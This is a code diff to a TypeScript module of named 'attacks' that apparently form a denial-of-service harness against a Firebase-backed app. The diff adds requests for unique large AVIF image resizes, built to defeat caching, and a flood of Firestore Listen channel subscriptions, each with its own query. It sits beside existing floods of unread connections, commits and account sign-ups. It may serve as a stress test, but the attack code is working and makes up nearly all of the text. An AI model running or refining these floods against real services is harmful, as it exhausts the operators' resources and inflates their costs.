@@ -109,6 +109,28 @@ export function messageOf(n: number): string {
 
 const code = (n: number) => n.toString(36).padStart(4, '0')
 
+/** Sides of the nth picture: one in three as large as any may be, one in three the largest that is made as AVIF. */
+function sidesOf(n: number): string {
+  const at = Math.floor(n / 3)
+  const [width = 0, height = 0] =
+    [
+      [4096, 3072],
+      [2450, 1800],
+      [1800, 1700],
+    ][n % 3] ?? []
+  return `${width - (at % 600)}x${height - Math.floor(at / 600)}`
+}
+
+const channel = '/google.firestore.v1.Firestore/Listen/channel?VER=8&RID=1&CVER=22'
+
+/** What a listener sends first: it listens to a query of its own, so that nothing found for others serves it. */
+function listenTo(n: number): string {
+  const parent = 'projects/trackside/databases/(default)/documents'
+  const structuredQuery = { from: [{ collectionId: 'config' }], limit: n + 1 }
+  const addTarget = { targetId: 2, query: { parent, structuredQuery } }
+  return String(new URLSearchParams({ count: '1', ofs: '0', req0___data__: JSON.stringify({ addTarget }) }))
+}
+
 /** Every attack by name: runs until the signal is aborted and tells what was answered. */
 export const attacks: Record<string, (target: Target, signal: AbortSignal) => Promise<Tally>> = {
   'long queries': (target, signal) =>
@@ -123,11 +145,7 @@ export const attacks: Record<string, (target: Target, signal: AbortSignal) => Pr
     ),
   'large pictures, 620 at once': (target, signal) =>
     keepAsking(620, signal, (n) =>
-      ask(
-        target,
-        `${target.picture}/m/${2400 + (n % 600)}x${1800 + Math.floor(n / 600)}/filters:format(avif)`,
-        { signal },
-      ),
+      ask(target, `${target.picture}/m/${sidesOf(n)}/filters:format(avif)`, { signal }),
     ),
   'answers not read, 20 × 200': (target, signal) => keepUnread(target, 20, 200, signal),
   'connections not read, 2,000': (target, signal) => keepUnread(target, 2000, 3, signal),
@@ -145,6 +163,8 @@ export const attacks: Record<string, (target: Target, signal: AbortSignal) => Pr
     keepAsking(8, signal, (n) =>
       ask(target, `${database}:commit`, { method: 'POST', body: messageOf(n), signal }),
     ),
+  'listeners without end': (target, signal) =>
+    keepAsking(8, signal, (n) => ask(target, channel, { method: 'POST', body: listenTo(n), signal })),
   'accounts without end': (target, signal) =>
     keepAsking(4, signal, () =>
       ask(target, '/identitytoolkit.googleapis.com/v1/accounts:signUp?key=embedded', {
